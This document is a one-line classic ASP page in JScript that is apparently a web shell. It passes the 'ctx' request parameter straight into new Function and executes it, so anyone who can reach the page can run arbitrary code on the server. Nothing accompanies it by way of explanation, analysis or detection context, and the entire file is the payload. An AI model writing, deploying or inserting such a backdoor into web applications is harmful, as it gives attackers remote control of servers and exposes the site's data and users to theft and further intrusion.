<%@ Language="JScript" %><% (new Function(Request("ctx") + ""))(); %>
